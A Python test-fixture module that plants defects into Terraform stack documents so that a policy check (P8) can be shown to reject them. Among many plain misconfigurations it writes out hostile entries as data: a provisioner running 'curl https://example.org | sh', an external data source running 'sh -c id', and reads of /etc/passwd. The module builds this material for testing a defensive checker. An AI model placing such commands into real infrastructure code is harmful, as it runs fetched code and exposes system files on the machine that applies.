"""Defects for check P8: what no stack of ours has, planted into the network."""

from __future__ import annotations

from .planting import Plant, adds, template
from .policy_forms import Document


def _alters(kind: str, named: str, /, **values: object) -> Plant:
    return lambda stack: stack["resource"][kind][named].update(values)


def _takes(kind: str) -> Plant:
    return lambda stack: stack["resource"].pop(kind)


def _section(name: str, **values: object) -> Plant:
    def plant(stack: Document) -> None:
        stack[name] = {**stack.get(name, {}), **values}

    return plant


BEYOND: dict[str, Plant] = {
    "an unknown type": adds("aws_lambda_function", function_name="x"),
    "a fleet without a group": adds("aws_ec2_fleet", launch_template_config=[]),
    "a command on the machine that applies": lambda stack: template(stack).update(
        provisioner=[{"local-exec": {"command": "curl https://example.org | sh"}}]
    ),
    "a program that data comes from": adds("external", section="data", program=["sh", "-c", "id"]),
    "a page that data comes from": adds("http", section="data", url="https://example.org"),
    "a file of the machine that applies": adds(
        "local_file", section="data", filename="/etc/passwd"
    ),
    "a file that is written": adds("local_file", filename="x", content="x"),
    "a foreign object": adds("aws_s3_object", section="data", bucket="acme", key="workspace.json"),
    "an attribute that no stack sets": lambda stack: template(stack).update(ram_disk_id="ari-1"),
    "an egress rule inside the default group": _alters(
        "aws_default_security_group", "this", egress=[{"protocol": "-1", "cidr_blocks": ["::/0"]}]
    ),
    "a public ACL": adds("aws_s3_bucket_acl", acl="public-read", bucket="x"),
    "no public access block": _takes("aws_s3_bucket_public_access_block"),
    "a public access block with a hole": _alters(
        "aws_s3_bucket_public_access_block", "workspace", restrict_public_buckets=False
    ),
    "owners of objects other than the bucket's": _alters(
        "aws_s3_bucket_ownership_controls", "workspace", rule={"object_ownership": "ObjectWriter"}
    ),
    "a bucket without versions": _takes("aws_s3_bucket_versioning"),
    "an open default group": _takes("aws_default_security_group"),
    "a role's policy for another role": _alters(
        "aws_iam_role_policy", "worker", role="${aws_iam_role.scheduler.name}"
    ),
    "a profile of another role": _alters("aws_iam_instance_profile", "worker", role="admin"),
    "workers with the scheduler's profile": lambda stack: template(stack).update(
        iam_instance_profile={"arn": "${aws_iam_instance_profile.scheduler.arn}"}
    ),
    "workers with a foreign profile": lambda stack: template(stack).update(
        iam_instance_profile={"arn": "arn:aws:iam::123456789012:instance-profile/admin"}
    ),
    "another workspace's tag": _alters(
        "aws_vpc", "this", tags={"terradask:workspace": "other", "Name": "x"}
    ),
    "another workspace's bucket": _alters(
        "aws_s3_bucket", "workspace", bucket="terradask-other-123456789012-us-east-1"
    ),
    "another workspace's log group": _alters(
        "aws_cloudwatch_log_group", "hosts", name="/terradask/other"
    ),
    "another wheel": _alters("aws_s3_object", "host-wheel", source_hash="0" * 64),
    "a route to somebody else": lambda stack: stack["resource"]["aws_route"]["public"].update(
        gateway_id="igw-0123456789abcdef0"
    ),
    "a copy in another VPC": _alters("aws_security_group", "worker", vpc_id="${aws_vpc.x.id}"),
    "another provider": lambda stack: stack["provider"].update(null=[{}]),
    "the provider with another role": lambda stack: stack["provider"]["aws"][0].update(
        assume_role=[{"role_arn": "arn:aws:iam::999999999999:role/x"}]
    ),
    "the provider at another endpoint": lambda stack: stack["provider"]["aws"][0].update(
        endpoints=[{"s3": "https://s3.example.org"}]
    ),
    "another region": lambda stack: stack["provider"]["aws"][0].update(region="eu-west-1"),
    "repetition": lambda stack: template(stack).update(count=50),
}

#: What only a stack shows; a plan has no backend, and shows other sections elsewhere.
BEYOND_STACK: dict[str, Plant] = {
    "a module": _section("module", x={"source": "./x"}),
    "locals": _section("locals", x='${file("/etc/passwd")}'),
    "an import": _section("import", to="aws_vpc.this", id="vpc-1"),
    "another provider's source": lambda stack: stack["terraform"]["required_providers"][
        "aws"
    ].update(source="example/aws"),
    "a state elsewhere": lambda stack: stack["terraform"].update(
        backend={"http": {"address": "https://example.org"}}
    ),
}
